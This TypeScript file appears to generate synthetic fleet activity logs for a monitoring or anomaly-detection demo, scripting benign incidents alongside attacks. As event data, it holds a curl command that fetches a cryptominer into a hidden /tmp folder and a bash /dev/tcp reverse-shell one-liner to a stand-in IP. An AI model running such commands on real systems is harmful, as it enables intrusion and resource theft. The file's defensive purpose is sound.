import { DAY, type DurationMs, type EpochMs, HOUR, MINUTE, SECOND } from '../../domain/time.ts'
import type { Deed, Program } from './deed.ts'
import { HOSTS, type Host } from './hosts.ts'
import { type Rng, seeded } from './rng.ts'

/** Something that is out of the ordinary in the fleet, as a person would tell it. */
export interface Incident {
  readonly title: string
  readonly hosts: readonly string[]
  /** The process that shows it; absent where a host falls silent. */
  readonly process?: string
  /** Since the start of the fleet. */
  readonly from: DurationMs
  readonly to: DurationMs
  /** True where a good colleague did it. */
  readonly harmless: boolean
}

/** A moment since the start of the fleet: day (the first is 0) and time of day. */
const on = (day: number, hours: number, minutes: number): DurationMs => day * DAY + hours * HOUR + minutes * MINUTE
/** Length of the fleet's log. */
export const DEMO_LENGTH: DurationMs = 14 * DAY

/** What happens besides habits, in order of time. All of it comes after a quiet week, so that it can be told from habit. */
export const INCIDENTS = {
  monthly: {
    title: 'The monthly closing runs on the database host and reports to the bank',
    hosts: ['quay-db'],
    process: 'monthclose',
    from: on(7, 3, 0),
    to: on(7, 3, 30),
    harmless: true,
  },
  miner: {
    title: 'A miner was dropped into /tmp of a web host; it calls its pool every minute of each night',
    hosts: ['quay-web1'],
    process: 'xmrbee',
    from: on(9, 2, 14),
    to: on(13, 5, 40),
    harmless: false,
  },
  rollout: {
    title: 'A new inventory agent is installed on every host within three hours',
    hosts: HOSTS.map((host) => host.name),
    process: 'tallyd',
    from: on(10, 10, 5),
    to: DEMO_LENGTH,
    harmless: true,
  },
  shell: {
    title: 'The order service was made to open a reverse shell',
    hosts: ['quay-app'],
    process: 'bash',
    from: on(11, 14, 37),
    to: on(11, 15, 20),
    harmless: false,
  },
  silence: {
    title: 'The build host stops sending',
    hosts: ['quay-ci'],
    from: on(12, 9, 10),
    to: DEMO_LENGTH,
    harmless: false,
  },
} satisfies Record<string, Incident>

/** The deeds of all incidents on one host of the fleet that starts at `start`, in no order. */
export function incidentDeeds(host: Host, start: EpochMs, seed: number): Deed[] {
  const stories = [
    { incident: INCIDENTS.monthly, tell: monthlyClosing },
    { incident: INCIDENTS.miner, tell: miner },
    { incident: INCIDENTS.rollout, tell: inventoryAgent },
    { incident: INCIDENTS.shell, tell: reverseShell },
  ]
  return stories
    .filter(({ incident }) => incident.hosts.includes(host.name))
    .flatMap(({ incident, tell }) =>
      tell(start + incident.from, start + incident.to, seeded(seed, `${host.name}/${incident.process}`)),
    )
}

type Story = (from: EpochMs, to: EpochMs, rng: Rng) => Deed[]

interface Running {
  readonly program: Program
  readonly user: string
  readonly pid: number
  readonly ppid: number
}
const exec = (time: EpochMs, running: Running): Deed => ({ ...running, time, kind: 'exec', done: true })
const connect = (time: EpochMs, running: Running, ip: string, port: number): Deed => ({
  ...running,
  time,
  kind: 'connect',
  peer: { ip, port },
  done: false,
})

const monthlyClosing: Story = (from, to, rng) => {
  const program = {
    name: 'monthclose',
    executable: '/usr/local/bin/monthclose',
    args: ['/usr/local/bin/monthclose', '--send'],
  }
  const running = { program, user: 'postgres', pid: 41_807, ppid: 41_806 }
  const deeds = [exec(from, running)]
  for (let time = from + 5 * SECOND; time < to; time += rng.whole(30, 120) * SECOND)
    deeds.push(connect(time, running, rng.pick(['203.0.113.150', '203.0.113.151']), 443))
  return deeds
}

const miner: Story = (from, to, rng) => {
  const parent = 2107
  const fetched = 'http://198.51.100.200/b/xmrbee'
  const curl = {
    name: 'curl',
    executable: '/usr/bin/curl',
    args: ['curl', '-so', '/tmp/.font-cache/xmrbee', fetched],
    cwd: '/tmp',
  }
  const fetching = { program: curl, user: 'www-data', pid: 30_411, ppid: parent }
  const executable = '/tmp/.font-cache/xmrbee'
  const bee = {
    name: 'xmrbee',
    executable,
    args: [executable, '-o', '203.0.113.77:3333', '-u', 'hive-7', '--background'],
    cwd: '/tmp',
  }
  const deeds = [exec(from, fetching), connect(from + 200, fetching, '198.51.100.200', 80)]
  for (let night = from + 20 * SECOND, pid = 30_420; night < to; night += DAY, pid += 4_111) {
    const running = { program: bee, user: 'www-data', pid, ppid: parent }
    deeds.push(exec(night, running))
    const dawn = night + 3 * HOUR + 25 * MINUTE
    for (let time = night + SECOND; time < dawn; time += MINUTE + rng.whole(-900, 900))
      deeds.push(connect(time, running, '203.0.113.77', 3333))
  }
  return deeds.filter((deed) => deed.time < to)
}

const inventoryAgent: Story = (from, to, rng) => {
  const program = {
    name: 'tallyd',
    executable: '/opt/tally/tallyd',
    args: ['/opt/tally/tallyd', '--server', '10.20.0.9'],
  }
  const running = { program, user: 'tally', pid: rng.whole(45_000, 60_000), ppid: 1 }
  const installed = from + rng.whole(0, 155) * MINUTE
  const deeds = [exec(installed, running)]
  for (let time = installed + 2 * SECOND; time < to; time += 20 * MINUTE + rng.whole(0, 8000))
    deeds.push(connect(time, running, '10.20.0.9', 8443))
  return deeds
}

const reverseShell: Story = (from, to, rng) => {
  const shell = {
    name: 'bash',
    executable: '/usr/bin/bash',
    args: ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'],
    cwd: '/srv/orders',
  }
  const running = { program: shell, user: 'orders', pid: 52_113, ppid: 1893 }
  const typed = ['id', 'whoami', 'uname', 'ls', 'cat'].map((name, i) => ({
    program: { name, executable: `/usr/bin/${name}`, args: [name], cwd: '/srv/orders' },
    user: 'orders',
    pid: 52_120 + i,
    ppid: running.pid,
  }))
  const deeds = [exec(from, running)]
  for (let time = from + 300; time < to; time += rng.whole(6, 14) * MINUTE)
    deeds.push(connect(time, running, '198.51.100.23', 4444))
  return [...deeds, ...typed.map((command, i) => exec(from + (20 + 15 * i) * SECOND, command))]
}
